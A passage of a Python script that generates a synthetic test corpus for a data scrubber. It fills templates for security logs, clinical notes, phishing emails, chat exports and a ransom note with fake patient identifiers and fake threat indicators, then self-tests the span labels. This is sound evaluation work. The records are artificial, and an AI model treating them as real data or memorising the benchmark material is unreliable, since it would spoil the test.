        d.fill("{h} — {org}\n{t}\n{rep}: {n} ({u}), {ph}\n\n", h=L["h"], org=c.org(),
               t=c.ts("%d.%m.%Y %H:%M"), rep=L["rep"], n=c.nm(p), u=c.user(p), ph=c.phone())
        d.fill(L["t1"], pt=c.nm(pt), dob=[L["dob"], " ", c.D(b)], id=L["id"], nid=nat_id(c, loc, b),
               ad=a[0], zp=a[2], ci=a[1])
        d.t("\n")
        d.fill(L["t2"], url=c.xurl(defang=c.r.random() < 0.4), x=c.xip(), m=c.xransom(),
               s=c.xsha256())
        d.fill("\n{h} / {ip} / {mi}\n", h=c.H(c.host()), ip=c.pip(), mi=c.xmitre())
        return d
    return fn


def s_whatsapp_ar(c):
    p, q = c.staff(), c.staff()
    pt = c.patient()
    d = Doc()
    lines = [
        ("p", Doc().fill("che, me llegó un mail de {e} con la historia clínica de {pt} adjunta",
                         e=c.xmail(), pt=c.nm(pt))),
        ("q", Doc().fill("no lo abras!! es {m}, ya lo vimos en la guardia", m=c.xmal())),
        ("p", Doc().fill("ya lo abrí en la {h} 😬", h=c.H(c.host()))),
        ("q", Doc().fill("desenchufala. el DNI de {f} es {dni}, avisale a admisión", f=c.nm(pt, "first"),
                         dni=I(f"{c.r.randint(10, 45)}.{c.r.randint(100, 999)}.{c.r.randint(100, 999)}", "SSN"))),
        ("p", Doc().fill("listo. el link era {u}", u=c.xurl(defang=True))),
        ("q", Doc().fill("pasame tu cel, el mío es {ph}", ph=c.phone())),
    ]
    for who, ln in lines:
        d.fill("[{t}] {n}: {l}\n", t=N(c.tick(20, 300).strftime("%d/%m/%y, %H:%M:%S"), "CHAT_TIME"),
               n=c.nm(p if who == "p" else q), l=ln)
    return d


def s_email_fr_ca(c):
    p, q = c.staff(), c.staff()
    pt = c.patient()
    b = c.dob()
    d = Doc()
    d.fill("De : {pn} <{pe}>\nÀ : {qn} <{qe}>\nDate : {t}\nObjet : TR: Résultats — courriel "
           "suspect\n\nBonjour {qf},\n\nUne usagère, {ptn} (no de dossier {m}, née le {dob}, "
           "RAMQ {ramq}), a reçu un courriel de {xe} lui demandant de « confirmer » son "
           "dossier sur {url}. Le domaine {dom} résout vers {x}.\n\nPeux-tu bloquer? Mon poste : "
           "{h}, téléphone {ph}.\n\nMerci,\n{pf}\n",
           pn=c.nm(p), pe=c.email(p), qn=c.nm(q), qe=c.email(q),
           t=N(c.tick().strftime("%Y-%m-%d %H:%M"), "MAIL_TIME"), qf=c.nm(q, "first"),
           ptn=c.nm(pt), m=c.mrn(), dob=c.D(b),
           ramq=I(f"{(ind.slug(pt.last).upper() + 'XXX')[:3]}{(ind.slug(pt.first).upper() + 'X')[:1]} "
                  f"{b.strftime('%y')}{b.month + 50:02d} {b.day:02d}{c.r.randint(10, 99)}", "HEALTH_PLAN"),
           xe=c.xmail(), url=c.xurl(defang=True), dom=c.xdom(), x=c.xip(), h=c.H(c.host()),
           ph=c.phone(), pf=c.nm(p, "first"))
    return d


def s_ticket_no(c):
    p, q = c.staff(), c.staff()
    d = Doc()
    d.fill("Sak #{n} | Kategori: Sikkerhet | Innmelder: {pn} ({u}) | Tlf {ph}\n"
           "Beskrivelse: Fikk BankID-lignende side på {h} etter klikk på {url}. Skrev inn "
           "passord. Angriperen ringte fra {xp} og ba om kode.\n"
           "Behandler {qn}: konto sperret, {x} blokkert i brannmur, saken meldt til "
           "HelseCERT. Teknikk {mi}.\n", n=c.r.randint(100000, 999999), pn=c.nm(p, "lf"), u=c.user(p),
           ph=c.phone(), h=c.H(c.host()), url=c.xurl(defang=True), xp=c.xphone(), qn=c.nm(q),
           x=c.xip(), mi=c.xmitre())
    return d


def s_tox_note_ka(c):
    p = c.staff()
    d = Doc()
    d.fill("ინციდენტის ჩანაწერი — {org}\n{t}\nშეტყობინება: {n} ({u})\n"
           "გამოსასყიდის წერილი: დაგვიკავშირდით Tox {tox}, ან {e}. საფულე {w}.\n"
           "დაშიფრული სერვერი: {h} ({ip}); {r}.\n", org=c.org(), t=c.ts("%d.%m.%Y %H:%M"),
           n=c.nm(p), u=c.user(p), tox=c.xtox(), e=c.xmail(), w=c.xwallet(), h=c.H(c.host("srv")),
           ip=c.pip(), r=c.xransom())
    pt = c.patient()
    d.fill("ნიმუშში იყო პაციენტის {pt} ფაილი, პირადი ნომერი {pn}.\n", pt=c.nm(pt),
           pn=I(str(c.r.randint(10 ** 10, 10 ** 11 - 1)), "SSN"))
    return d


# ============================================================ registry

def P8(name, loc, fn, parse=None):
    return (name, loc, fn, parse)


STYLES = [
    P8("sophos-xg-kv-log", "en_GB", s_sophos_xg),
    P8("checkpoint-smartlog-csv", "de_AT", s_checkpoint_csv),
    P8("juniper-srx-rtflow", "en_NZ", s_srx_rtflow),
    P8("zscaler-nss-web-tsv", "en_US", s_zscaler_tsv),
    P8("f5-asm-waf-syslog", "fr_CA", s_f5_asm),
    P8("cloudflare-waf-jsonl", "en_US", s_cloudflare_jsonl, "jsonl"),
    P8("aws-cloudtrail-json", "en_US", s_cloudtrail, "json"),
    P8("sentinelone-threat-json", "de_CH", s_sentinelone, "json"),
    P8("carbonblack-alert-csv", "en_IN", s_carbonblack_csv),
    P8("jamf-inventory-csv", "da_DK", s_jamf_csv),
    P8("duo-auth-csv", "en_US", s_duo_csv),
    P8("pingfederate-audit-log", "fi_FI", s_pingfed),
    P8("gworkspace-login-csv-es", "es_CO", s_gws_login_csv),
    P8("squid-access-log", "pt_PT", s_squid),
    P8("haproxy-portal-log", "sk_SK", s_haproxy),
    P8("defender-mplog-hr", "hr_HR", s_mplog),
    P8("osquery-results-jsonl", "en_US", s_osquery, "jsonl"),
    P8("wazuh-alert-json", "es_AR", s_wazuh, "json"),
    P8("bash-history-paste", "sl_SI", s_bash_history),
    P8("exchange-msgtrack-csv", "de_CH", s_exchange_track),
    P8("postfix-maillog", "no_NO", s_postfix),
    P8("cyberark-vault-audit", "en_GB", s_cyberark),
    P8("schtasks-task-xml", "en_US", s_schtasks_xml, "xml"),
    P8("openvpn-status-log", "hu_HU", s_openvpn_status),
    P8("sharepoint-sharing-csv", "fr_CH", s_sharepoint_csv),
    P8("k8s-audit-jsonl", "en_US", s_k8s_audit, "jsonl"),
    P8("incident-export-yaml", "es_CL", s_incident_yaml),
    P8("misp-event-json", "en_US", s_misp, "json"),
    P8("jira-issue-json", "da_DK", s_jira_json, "json"),
    P8("bitlocker-recovery-requests", "en_US", s_bitlocker),
    P8("med-reconciliation-list", "en_US", s_medrec),
    P8("wound-care-visit", "en_NZ", s_wound_care),
    P8("physio-progress-note", "en_GB", s_physio),
    P8("preop-anesthesia-eval", "en_US", s_preop),
    P8("critical-value-call-log", "en_US", s_critical_callback),
    P8("immunization-registry-xml", "en_US", s_immunization_xml, "xml"),
    P8("decedent-release-form", "en_US", s_decedent),
    P8("patient-billing-statement", "en_US", s_billing_statement),
    P8("patient-refund-request", "en_US", s_refund_request),
    P8("leaver-access-revocation", "en_GB", s_offboarding),
    P8("vendor-baa-incident-email", "en_US", s_vendor_baa),
    P8("interpreter-request-log", "en_US", s_interpreter_log),
    P8("cs-count-discrepancy", "en_US", s_cs_count),
    P8("visitor-kiosk-csv", "en_NZ", s_visitor_kiosk),
    P8("data-destruction-certificate", "en_IN", s_disposal_cert),
    P8("travel-nurse-packet-email", "en_US", s_travel_nurse),
    P8("incident-note-da", "da_DK", make_note("da_DK")),
    P8("incident-note-fi", "fi_FI", make_note("fi_FI")),
    P8("incident-note-hu", "hu_HU", make_note("hu_HU")),
    P8("incident-note-uk", "uk_UA", make_note("uk_UA")),
    P8("incident-note-sk", "sk_SK", make_note("sk_SK")),
    P8("incident-note-no", "no_NO", make_note("no_NO")),
    P8("incident-note-fa", "fa_IR", make_note("fa_IR")),
    P8("incident-note-hr", "hr_HR", make_note("hr_HR")),
    P8("whatsapp-export-es-ar", "es_AR", s_whatsapp_ar),
    P8("email-fr-ca", "fr_CA", s_email_fr_ca),
    P8("servicedesk-ticket-no", "no_NO", s_ticket_no),
    P8("ransom-note-ka", "ka_GE", s_tox_note_ka),
]


# ============================================================ self-test

def _inside(spans, a, b):
    return any(s <= a and b <= e for s, e in spans)


def selftest(rec, parse):
    text = rec["text"]
    ids = [(s["start"], s["end"], s["type"]) for s in rec["identifiers"]]
    inds = [(s["start"], s["end"], s["type"]) for s in rec["indicators"]]
    neus = [(s["start"], s["end"], s["type"]) for s in rec.get("neutral", [])]
    allsp = sorted(ids + inds + neus)
    for a, b, _ in allsp:
        assert 0 <= a < b <= len(text), "range"
    for (a1, b1, _), (a2, b2, _) in zip(allsp, allsp[1:]):
        assert b1 <= a2, "overlap"
    idtext = {text[a:b].lower() for a, b, _ in ids}
    indtext = {text[a:b].lower() for a, b, _ in inds}
    assert not (idtext & indtext), ("both", idtext & indtext)
    for a, b, t in ids:
        if t == "IP":
            assert ipaddress.ip_address(text[a:b]).is_private, "public id ip"
    for a, b, t in inds:
        if t == "IPV4":
            v = text[a:b].replace("[.]", ".")
            assert ipaddress.ip_address(v).is_global, "private ind ip"
    idsp = [(a, b) for a, b, _ in ids]
    checks = set()
    for a, b, t in ids:
        checks.add(text[a:b])
        if t == "NAME":
            for part in re.split(r"[\s,^.]+", text[a:b]):
                if len(part) >= 4:
                    checks.add(part)
    for s in checks:
        for m in re.finditer(r"(?<!\w)" + re.escape(s) + r"(?!\w)", text, re.I):
            assert _inside(idsp, m.start(), m.end()), ("uncovered", s)
    org = rec["org"]
    for s in [org["name"]] + org["domains"]:
        for m in re.finditer(re.escape(s), text, re.I):
            assert _inside(idsp, m.start(), m.end()), ("org outside", s)
    if parse == "json":
        json.loads(text)
    elif parse == "jsonl":
        for ln in text.splitlines():
            if ln.strip():
                json.loads(ln)
    elif parse == "xml":
        ET.fromstring(re.sub(r"^<\?xml[^>]*\?>\s*", "", text))


def build():
    rng = random.Random(SEED)
    recs = []
    redraws = 0
    n = 0
    for name, loc, fn, parse in STYLES:
        for _ in range(PER_STYLE):
            n += 1
            for attempt in range(200):
                c = Ctx(rng, loc)
                try:
                    d = fn(c)
                    rec = record(f"blind8-{n:04d}", d, name, loc,
                                 {"name": c.org_name, "domains": [c.domain]})
                    selftest(rec, parse)
                except (AssertionError, ValueError, ET.ParseError) as e:
                    redraws += 1
                    if os.environ.get("B8DEBUG"):
                        print(name, repr(e)[:200], file=sys.stderr)
                    continue
                recs.append(rec)
                break
            else:
                raise SystemExit(f"{name}: no passing document in 200 draws")
    return recs, redraws


NOTES = ("An eighth blind corpus, written without opening the scrubber, its results, score.py, "
         "the other generators or the other corpora. Conventions: `README.md` in this directory.")


def main():
    recs, redraws = build()
    if "--check" in sys.argv:
        import tempfile
        with tempfile.TemporaryDirectory() as td:
            h = write_corpus(os.path.join(td, "b.jsonl"), recs)
        with open(OUT, "rb") as f:
            old = hashlib.sha256(f.read()).hexdigest()
        print(f"regenerated {h}\non disk     {old}")
        sys.exit(0 if h == old else 1)
    os.makedirs(os.path.dirname(OUT), exist_ok=True)
    h = write_corpus(OUT, recs)
    manifest(MAN, "blind8 manifest", "blind8/blind8.jsonl", SEED, "gen/gen_blind8.py", recs, NOTES)
    print(f"{len(recs)} documents, {len({r['style'] for r in recs})} styles, redraws {redraws}, sha256 {h}")


if __name__ == "__main__":
    main()
